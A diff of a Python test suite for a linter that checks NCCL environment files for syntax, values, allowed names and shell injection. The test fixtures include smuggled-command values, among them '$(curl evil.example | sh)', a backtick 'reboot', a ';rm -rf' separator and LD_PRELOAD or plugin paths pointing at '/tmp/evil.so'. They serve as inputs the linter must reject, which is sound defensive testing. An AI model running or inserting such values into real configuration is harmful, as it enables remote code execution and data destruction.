@@ -23,9 +23,9 @@ def run(text, known=FAKE):
 
 # Each rule: (failing text, expected (line, variable, severity), message fragment, passing text)
 RULES = [
-    ("malformed", "# c\nNCCL_PROTO=LL\nnot an assignment\n", (3, None, ERROR), "malformed line",
+    ("malformed", "# c\nNCCL_PROTO=LL\nnot an assignment\n", (3, None, ERROR), "expected NAME=VALUE",
      "# c\nNCCL_PROTO=LL\n"),
-    ("spaces around =", "NCCL_ALGO = Ring\n", (1, "NCCL_ALGO", ERROR), "space before '='",
+    ("spaces around =", "NCCL_ALGO = Ring\n", (1, "NCCL_ALGO", ERROR), "a blank before '='",
      "NCCL_ALGO=Ring\n"),
     ("invalid value", "\nNCCL_NTHREADS=100\n", (2, "NCCL_NTHREADS", ERROR), "not a multiple of 32",
      "\nNCCL_NTHREADS=96\n"),
@@ -36,26 +36,38 @@ RULES = [
      "# x\n\nNCCL_P2P_LEVEL=SYS\n"),
     ("set twice", "NCCL_ALGO=Ring\nNCCL_PROTO=LL\nNCCL_ALGO=Tree\n", (3, "NCCL_ALGO", WARNING),
      "first on line 1", "NCCL_ALGO=Ring\nNCCL_PROTO=LL\n"),
-    ("quoted value", "NCCL_SOCKET_IFNAME=\"eth0\"\n", (1, "NCCL_SOCKET_IFNAME", WARNING), "docker",
+    ("quoted value", "NCCL_SOCKET_IFNAME=\"eth0\"\n", (1, "NCCL_SOCKET_IFNAME", ERROR), "docker keeps them",
      "NCCL_SOCKET_IFNAME=eth0\n"),
-    ("needs quoting", "NCCL_DEBUG_FILE=/tmp/nccl.$HOSTNAME\n", (1, "NCCL_DEBUG_FILE", WARNING),
-     "quoting", "NCCL_DEBUG_FILE=/tmp/nccl.%h.%p\n"),
+    ("variable expansion", "NCCL_DEBUG_FILE=/tmp/nccl.$HOSTNAME\n", (1, "NCCL_DEBUG_FILE", ERROR),
+     "'$' starts a variable", "NCCL_DEBUG_FILE=/tmp/nccl.%h.%p\n"),
     ("command substitution", "NCCL_SOCKET_IFNAME=$(curl evil.example | sh)\n",
-     (1, "NCCL_SOCKET_IFNAME", ERROR), "bash would run a command", "NCCL_SOCKET_IFNAME=eth0\n"),
-    ("backtick in double quotes", 'NCCL_SOCKET_IFNAME="`reboot`"\n', (1, "NCCL_SOCKET_IFNAME", ERROR),
+     (1, "NCCL_SOCKET_IFNAME", ERROR), "command substitution", "NCCL_SOCKET_IFNAME=eth0\n"),
+    ("backtick", "NCCL_SOCKET_IFNAME=`reboot`\n", (1, "NCCL_SOCKET_IFNAME", ERROR),
      "backtick", "NCCL_SOCKET_IFNAME=eth0\n"),
-    ("command separator", "NCCL_DEBUG_FILE=/tmp/x;rm -rf /tmp/y\n", (1, "NCCL_DEBUG_FILE", ERROR),
-     "end the assignment and run the rest as a command", "NCCL_DEBUG_FILE=/tmp/x\n"),
+    ("command separator", "NCCL_DEBUG_FILE=/tmp/x;rm\n", (1, "NCCL_DEBUG_FILE", ERROR),
+     "';' ends the assignment in bash and runs the rest as a command", "NCCL_DEBUG_FILE=/tmp/x\n"),
     ("background", "NCCL_DEBUG_FILE=/tmp/x&\n", (1, "NCCL_DEBUG_FILE", ERROR), "'&'", "NCCL_DEBUG_FILE=/tmp/x\n"),
     ("pipe", "NCCL_DEBUG_FILE=a|b\n", (1, "NCCL_DEBUG_FILE", ERROR), "'|'", "NCCL_DEBUG_FILE=ab\n"),
-    ("redirect out", "NCCL_DEBUG_FILE=a>b\n", (1, "NCCL_DEBUG_FILE", ERROR), "redirect input or output",
+    ("redirect out", "NCCL_DEBUG_FILE=a>b\n", (1, "NCCL_DEBUG_FILE", ERROR), "redirects output",
      "NCCL_DEBUG_FILE=ab\n"),
-    ("redirect in", "NCCL_DEBUG_FILE=a<b\n", (1, "NCCL_DEBUG_FILE", ERROR), "'<'", "NCCL_DEBUG_FILE=ab\n"),
-    ("inline comment", "NCCL_PROTO=LL # fast\n", (1, "NCCL_PROTO", ERROR), "inline comment",
+    ("redirect in", "NCCL_DEBUG_FILE=a<b\n", (1, "NCCL_DEBUG_FILE", ERROR), "redirects input", "NCCL_DEBUG_FILE=ab\n"),
+    ("tilde", "NCCL_DEBUG_FILE=~/nccl.log\n", (1, "NCCL_DEBUG_FILE", ERROR), "'~'",
+     "NCCL_DEBUG_FILE=/home/u/nccl.log\n"),
+    ("inline comment", "NCCL_PROTO=LL # fast\n", (1, "NCCL_PROTO", ERROR), "a blank",
      "# fast\nNCCL_PROTO=LL\n"),
     ("export", "export NCCL_PROTO=LL\n", (1, "NCCL_PROTO", WARNING), "bash only", "NCCL_PROTO=LL\n"),
-    ("trailing blanks", "NCCL_PROTO=LL  \n", (1, "NCCL_PROTO", WARNING), "trailing", "NCCL_PROTO=LL\n"),
-    ("name in wrong case", "nccl_proto=LL\n", (1, "nccl_proto", WARNING), "NCCL_PROTO", "NCCL_PROTO=LL\n"),
+    ("trailing blanks", "NCCL_PROTO=LL  \n", (1, "NCCL_PROTO", ERROR), "a blank", "NCCL_PROTO=LL\n"),
+    ("CRLF", "NCCL_PROTO=LL\r\n", (1, "NCCL_PROTO", ERROR), "carriage return", "NCCL_PROTO=LL\n"),
+    ("name in wrong case", "nccl_proto=LL\n", (1, "nccl_proto", ERROR), "did you mean NCCL_PROTO?",
+     "NCCL_PROTO=LL\n"),
+    ("not an NCCL variable", "NCCL_PROTO=LL\nLD_PRELOAD=/tmp/evil.so\n", (2, "LD_PRELOAD", ERROR),
+     "not an NCCL variable nor on the profile allow-list", "NCCL_PROTO=LL\n"),
+    ("loads a library", "NCCL_NET_PLUGIN=/tmp/evil.so\n", (1, "NCCL_NET_PLUGIN", ERROR),
+     "load a shared library", "NCCL_PROTO=LL\n"),
+    ("engine switch value", "VLLM_ALLREDUCE_USE_SYMM_MEM=true\n", (1, "VLLM_ALLREDUCE_USE_SYMM_MEM", ERROR),
+     "not a value its reader takes", "VLLM_ALLREDUCE_USE_SYMM_MEM=0\n"),
+    ("comment continued by systemd", "# note \\\nNCCL_PROTO=LL\n", (1, None, ERROR),
+     "ending in a backslash", "# note\nNCCL_PROTO=LL\n"),
     ("unknown name", "NCCL_PROTO=LL\nNCCL_MAX_NCHANELS=16\n", (2, "NCCL_MAX_NCHANELS", WARNING),
      "did you mean NCCL_MAX_NCHANNELS?", "NCCL_PROTO=LL\nNCCL_MAX_NCHANNELS=16\n"),
 ]
@@ -94,19 +106,27 @@ def test_installed_libnccl_is_consulted():
 
 def test_version_notes_use_the_consulted_library():
     old = KnownNames(FAKE.names, "2.23.4", "/old/libnccl.so")
-    seen, found = run("NCCL_PROTO=LL;allreduce:Simple\n", old)
-    # ';' would also end the assignment when bash sources the file: an error, and the note.
-    assert sorted((f.message.split(" ")[0], f.severity) for f in found) == [
-        ("per-collective", WARNING), ("value", ERROR)]
-    assert all(s[:2] == (1, "NCCL_PROTO") for s in seen)
+    seen, found = run("NCCL_PROTO=allreduce:Simple\n", old)
+    assert seen == [(1, "NCCL_PROTO", WARNING)] and found[0].message.startswith("per-collective")
+    assert run("NCCL_PROTO=allreduce:Simple\n", KnownNames(FAKE.names, "2.25.0", "/x"))[0] == []
 
 
-def test_non_nccl_variables_only_get_syntax_rules():
-    assert run("CUDA_VISIBLE_DEVICES=0,1,2,3\nOMP_NUM_THREADS=8\n")[0] == []
+def test_several_collective_sections_point_to_the_tuner_csv():
+    # ';' would end the assignment when bash sources the file: an error, with the way out.
+    seen, found = run("NCCL_PROTO=^LL128;allreduce:LL\n")
+    assert seen == [(1, "NCCL_PROTO", ERROR)] and "recommend --tuner-csv" in found[0].message
 
 
-def test_line_numbers_with_comments_blank_lines_and_crlf():
-    text = "# a\r\n\r\n# b\r\nNCCL_PROTO=LL\r\n\r\nNCCL_NTHREADS=33\r\n"
+def test_names_off_the_allow_list_are_errors_and_allowed_ones_pass():
+    seen, _ = run("CUDA_VISIBLE_DEVICES=0,1,2,3\nOMP_NUM_THREADS=8\nPATH=/tmp\nBASH_ENV=/tmp/x\n")
+    assert seen == [(1, "CUDA_VISIBLE_DEVICES", ERROR), (2, "OMP_NUM_THREADS", ERROR),
+                    (3, "PATH", ERROR), (4, "BASH_ENV", ERROR)]
+    assert run("TORCH_NCCL_BLOCKING_WAIT=0\nVLLM_ALLREDUCE_USE_FLASHINFER=0\n"
+               "SGLANG_SKIP_P2P_CHECK=1\nVLLM_FLASHINFER_ALLREDUCE_BACKEND=trtllm\n")[0] == []
+
+
+def test_line_numbers_with_comments_and_blank_lines():
+    text = "# a\n\n# b\nNCCL_PROTO=LL\n  \nNCCL_NTHREADS=33\n"
     assert run(text)[0] == [(6, "NCCL_NTHREADS", ERROR)]
 
 
@@ -118,10 +138,12 @@ def test_shipped_profile_is_lint_clean():
 
 
 def test_lint_env_for_mappings():
-    found = lint.lint_env({"NCCL_PROTO": "^LL", "NCCL_NTHREADS": "7", "NCCL_FOO": "1"}, known=FAKE)
+    found = lint.lint_env({"NCCL_PROTO": "^LL", "NCCL_NTHREADS": "7", "NCCL_FOO": "1",
+                           "LD_PRELOAD": "/x.so", "NCCL_DEBUG_FILE": "a b"}, known=FAKE)
     assert [(f.variable, f.severity, f.line) for f in found] == [
+        ("LD_PRELOAD", ERROR, None), ("NCCL_DEBUG_FILE", ERROR, None),
         ("NCCL_PROTO", WARNING, None), ("NCCL_NTHREADS", ERROR, None), ("NCCL_FOO", WARNING, None)]
-    assert lint.has_errors(found) and lint.counts(found) == (1, 2)
+    assert lint.has_errors(found) and lint.counts(found) == (3, 2)
 
 
 # ------------------------------------------------------------------ the command
@@ -157,16 +179,3 @@ def test_cli_unreadable_and_usage_exit_2(tmp_path, cli_runner):
     assert result.exit_code == 2 and "missing.env" in result.output
     assert cli_runner.invoke(cli, ["lint"]).exit_code == 2
     assert cli_runner.invoke(cli, ["lint", "--bogus", "x.env"]).exit_code == 2
-
-
-def test_shell_danger_by_quoting():
-    assert lint.shell_danger("a;b") and lint.shell_danger("a;b", '"') is None
-    assert "run a command" in lint.shell_danger("$(id)", '"')
-    assert lint.shell_danger("$(id);`x`>y", "'") is None  # single quotes keep it literal
-    text = lint.shell_danger("$(a);b>c")
-    assert "command substitution '$('" in text and "';'" in text and "'>'" in text
-    assert "run a command and end the assignment and run the rest as a command and redirect" in text
-    assert lint.shell_danger("/tmp/nccl.%h.%p") is None
-    # Single-quoted: no error, the quoting warning stays (docker keeps the quotes).
-    seen, _ = run("NCCL_DEBUG_FILE='a;b'\n")
-    assert seen == [(1, "NCCL_DEBUG_FILE", WARNING)]
